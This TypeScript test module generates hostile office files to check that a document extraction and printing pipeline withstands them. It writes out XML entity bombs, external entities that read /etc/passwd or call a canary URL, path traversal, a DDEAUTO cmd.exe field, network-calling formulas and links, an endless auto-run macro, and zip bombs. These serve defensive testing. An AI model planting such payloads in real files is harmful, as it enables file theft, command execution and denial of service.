import { globSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { isPrintable } from '../../packages/extraction/src/index.ts';
import { zipOf } from '../../packages/extraction/src/testing/zip-writer.ts';
import { archives } from './archives.ts';
import { CANARY, MIB, type HostileFiles } from './hostile-file.ts';
import { mutatedFiles } from './mutations.ts';
import { oldOffice } from './old-office.ts';
import { pictures } from './pictures.ts';

/** Files with every declaration that LibreOffice asks for: the ones that only our readers take are refused before it has looked at anything. */
const relationType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const contentType = 'application/vnd.openxmlformats-officedocument';
const XML = '<?xml version="1.0" encoding="UTF-8"?>';
type Parts = Record<string, string | Uint8Array>;

const relations = (...list: readonly string[]) => `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list.join('')}</Relationships>`;
const relation = (id: string, type: string, target: string, more = '') => `<Relationship Id="${id}" Type="${relationType}/${type}" Target="${target}"${more}/>`;
const types = (...parts: readonly [name: string, type: string][]) => `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
  <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>
  <Default Extension="png" ContentType="image/png"/>
  ${parts.map(([name, type]) => `<Override PartName="${name}" ContentType="${contentType}.${type}+xml"/>`).join('')}</Types>`;

const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const story = paragraph('The text of the file');
const inWord = (body: string, declaration = '') => `${XML}${declaration}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"
  xmlns:r="${relationType}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"
  xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><w:body>${body}</w:body></w:document>`;
const word = (document: string | Uint8Array, parts: Parts = {}) => zipOf({
  '[Content_Types].xml': types(['/word/document.xml', 'wordprocessingml.document.main']), '_rels/.rels': relations(relation('r1', 'officeDocument', 'word/document.xml')),
  'word/document.xml': document, ...parts,
});
const picture = (blip: string) => `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3000000" cy="3000000"/><wp:docPr id="1" name="p"/><a:graphic>
  <a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>
  <pic:blipFill><a:blip ${blip}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="3000000"/></a:xfrm>
  <a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const linked = (...list: readonly string[]) => ({ 'word/_rels/document.xml.rels': relations(...list) });
const laughs = (levels: number) => `<!DOCTYPE a [<!ENTITY l0 "lol">${Array.from({ length: levels }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}]>`;

const words: HostileFiles = {
  'plain.docx': () => word(inWord(story)),
  'entity-bomb.docx': () => word(inWord(paragraph('&l9;'), laughs(9))),
  'entity-of-a-file.docx': () => word(inWord(paragraph('&x;'), '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
  'entity-of-the-network.docx': () => word(inWord(paragraph('&x;'), `<!DOCTYPE a [<!ENTITY x SYSTEM "${CANARY}">]>`)),
  'network.docx': () => word(inWord(`${story}${picture('r:link="a"')}`), linked(relation('a', 'image', CANARY, ' TargetMode="External"'), relation('b', 'attachedTemplate', CANARY, ' TargetMode="External"'))),
  'way-out-of-the-archive.docx': () => word(inWord(`${story}${picture('r:embed="a"')}`), linked(relation('a', 'image', '../../../../../../etc/passwd'))),
  'fields-of-the-network.docx': () => word(inWord(`${story}${['INCLUDEPICTURE', 'INCLUDETEXT', 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'].map((field) =>
    `<w:p><w:fldSimple w:instr="${field} ${CANARY}"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>`).join('')}`)),
  'picture-of-2500-megapixels.docx': async () => word(inWord(`${story}${picture('r:embed="a"')}`), {
    ...linked(relation('a', 'image', 'media/a.png')), 'word/media/a.png': Buffer.from(await pictures['flood.png']?.() ?? ''),
  }),
  'part-of-500-mebibytes.docx': () => word(Buffer.concat([Buffer.from(inWord('').replace('</w:body></w:document>', '')), Buffer.alloc(500 * MIB, '<w:p/>')])),
  'million-paragraphs.docx': () => word(inWord(paragraph('words').repeat(1_000_000))),
  'deep-tables.docx': () => word(inWord(`${'<w:tbl><w:tr><w:tc>'.repeat(300)}${story}${'</w:tc></w:tr></w:tbl>'.repeat(300)}`)),
  'one-long-word.docx': () => word(inWord(paragraph('x'.repeat(300_000)))),
  'many-page-breaks.docx': () => word(inWord(`${story}<w:p><w:r><w:br w:type="page"/><w:t>x</w:t></w:r></w:p>`.repeat(1000))),
};

const workbook = (rows: string, { formulas = '', parts = {} }: { formulas?: string; parts?: Parts } = {}) => zipOf({
  '[Content_Types].xml': types(['/xl/workbook.xml', 'spreadsheetml.sheet.main'], ['/xl/worksheets/sheet1.xml', 'spreadsheetml.worksheet'], ['/xl/externalLinks/externalLink1.xml', 'spreadsheetml.externalLink']),
  '_rels/.rels': relations(relation('r1', 'officeDocument', 'xl/workbook.xml')),
  'xl/workbook.xml': `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${relationType}"><sheets><sheet name="Sheet" sheetId="1" r:id="r1"/></sheets>${formulas}</workbook>`,
  'xl/_rels/workbook.xml.rels': relations(relation('r1', 'worksheet', 'worksheets/sheet1.xml'), relation('r2', 'externalLink', 'externalLinks/externalLink1.xml')),
  'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`, ...parts,
});
const cell = (place: string, value: string) => `<c r="${place}"><v>${value}</v></c>`;
const inRows = (count: number, of: (row: number) => string) => Array.from({ length: count }, (_, at) => `<row r="${at + 1}">${of(at + 1)}</row>`).join('');

const books: HostileFiles = {
  'plain.xlsx': () => workbook(`<row r="1">${cell('A1', '42')}</row>`),
  'million-rows.xlsx': () => workbook(inRows(1_000_000, (row) => cell(`A${row}`, String(row)))),
  'million-empty-rows.xlsx': () => workbook(inRows(1_048_576, () => '')),
  'last-cell-of-all.xlsx': () => workbook(`<row r="1048576">${cell('XFD1048576', '1')}</row>`),
  'every-column.xlsx': () => workbook(inRows(60, (row) => Array.from({ length: 16_384 }, () => `<c><v>${row}</v></c>`).join(''))),
  'formulas-of-formulas.xlsx': () => workbook(inRows(20_000, (row) => `<c r="A${row}"><f>SUM(A${row + 1}:A20001)*ROWS(A1:XFD1048576)</f></c>`)),
  'workbook-of-the-network.xlsx': () => workbook(`<row r="1"><c r="A1"><f>WEBSERVICE("${CANARY}")+[1]Sheet!A1</f><v>1</v></c></row>`, {
    formulas: '<externalReferences><externalReference r:id="r2"/></externalReferences>',
    parts: {
      'xl/externalLinks/externalLink1.xml': `${XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="${relationType}" r:id="r1"><sheetNames><sheetName val="Sheet"/></sheetNames></externalBook></externalLink>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': relations(relation('r1', 'externalLinkPath', CANARY, ' TargetMode="External"')),
    },
  }),
};

const namespaces = ['office', 'text', 'table', 'draw', 'style', 'script'].map((name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name === 'draw' ? 'drawing' : name}:1.0"`).join(' ');
const spaces = `${namespaces} xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events"`;
const open = (type: string, content: string, { scripts = '', declaration = '', parts = {} }: { scripts?: string; declaration?: string; parts?: Parts } = {}) => zipOf({
  mimetype: `application/vnd.oasis.opendocument.${type}`,
  'META-INF/manifest.xml': `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">${['/', 'content.xml', ...Object.keys(parts)].map((name) =>
    `<manifest:file-entry manifest:full-path="${name}" manifest:media-type="${name === '/' ? `application/vnd.oasis.opendocument.${type}` : 'text/xml'}"/>`).join('')}</manifest:manifest>`,
  'content.xml': `${XML}${declaration}<office:document-content ${spaces} office:version="1.3">${scripts}<office:body><office:${type}>${content}</office:${type}></office:body></office:document-content>`,
  ...parts,
});
const openText = '<text:p>The text of the file</text:p>';
const sheet = (rows: string) => `<table:table table:name="Sheet">${rows}</table:table>`;

/** Were it run, the print would never end. */
const endless = {
  scripts: `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load"
    xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`,
  parts: {
    'Basic/script-lc.xml': `${XML}<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
    'Basic/Standard/script-lb.xml': `${XML}<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`,
    'Basic/Standard/Module1.xml': `${XML}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\nDo\nLoop\nEnd Sub</script:module>`,
  },
};

const openDocuments: HostileFiles = {
  'plain.odt': () => open('text', openText),
  'macro-without-end.odt': () => open('text', openText, endless),
  'entity-bomb.odt': () => open('text', '<text:p>&l9;</text:p>', { declaration: laughs(9) }),
  'picture-of-the-network.odt': () => open('text', `${openText}<text:p><draw:frame><draw:image xlink:href="${CANARY}"/></draw:frame><draw:frame><draw:image xlink:href="file:///etc/passwd"/></draw:frame></text:p>`),
  'section-of-the-network.odt': () => open('text', `${openText}<text:section text:name="s"><text:section-source xlink:href="${CANARY}"/></text:section><text:section text:name="t"><text:section-source xlink:href="file:///etc/passwd"/></text:section>`),
  'object-in-itself.odt': () => open('text', `${openText}<text:p><draw:frame><draw:object xlink:href="./"/></draw:frame></text:p>`),
  'billion-spaces.odt': () => open('text', '<text:p>a<text:s text:c="1000000000"/>b</text:p>'),
  'page-of-a-kilometre.odt': () => open('text', openText, { parts: { 'styles.xml': `${XML}<office:document-styles ${spaces} office:version="1.3"><office:automatic-styles><style:page-layout style:name="a">
    <style:page-layout-properties fo:page-width="100000cm" fo:page-height="100000cm"/></style:page-layout></office:automatic-styles><office:master-styles>
    <style:master-page style:name="Standard" style:page-layout-name="a"/></office:master-styles></office:document-styles>` } }),
  'billion-rows.ods': () => open('spreadsheet', sheet('<table:table-row table:number-rows-repeated="1000000000"><table:table-cell office:value-type="string"><text:p>a</text:p></table:table-cell></table:table-row>')),
  'thousand-columns-repeated.ods': () => open('spreadsheet', sheet('<table:table-row table:number-rows-repeated="20000"><table:table-cell table:number-columns-repeated="1000" office:value-type="string"><text:p>some words</text:p></table:table-cell></table:table-row>')),
  'sheet-of-the-network.ods': () => open('spreadsheet', `<table:table table:name="Sheet"><table:table-source xlink:href="${CANARY}" table:table-name="Sheet"/><table:table-row><table:table-cell office:value-type="string"><text:p>a</text:p></table:table-cell></table:table-row></table:table>`),
};

const bombs: HostileFiles = Object.fromEntries(['overlapping.docx', 'many-entries.docx', 'zip-in-zip.docx', 'lying-sizes.docx', 'comment-of-ends.docx']
  .map((name) => [`archive-${name}`, () => archives[name]?.() ?? '']));

const old: HostileFiles = Object.fromEntries(['sectors-in-a-circle.doc', 'deep.rtf'].map((name) => [name, () => oldOffice[name]?.() ?? '']));

const fixtures = path.join(import.meta.dirname, '../../packages/extraction/fixtures');
const extensionOf = (name: string) => path.extname(name).slice(1);
const realFiles = globSync('*/input.*', { cwd: fixtures }).filter((name) => isPrintable(extensionOf(name))).sort();

/** Half of the first real file of each type. */
const truncated: HostileFiles = Object.fromEntries([...Map.groupBy(realFiles, extensionOf)].map(([extension, [name = '']]) => [`half.${extension}`, () => {
  const whole = readFileSync(path.join(fixtures, name));
  return whole.subarray(0, whole.length / 2);
}]));

const MUTATED = 60;
const ofAllTypes = Object.entries(mutatedFiles([fixtures], MUTATED));
const changed: HostileFiles = Object.fromEntries(ofAllTypes.filter(([name]) => isPrintable(extensionOf(name))));

export const printing: HostileFiles = {
  ...words, ...books, ...openDocuments, ...bombs, ...old,
  'network.rtf': () => `{\\rtf1 The text of the file {\\field{\\*\\fldinst INCLUDEPICTURE "${CANARY}"}{\\fldrslt }}{\\*\\template ${CANARY}}}`,
  ...truncated, ...changed,
};
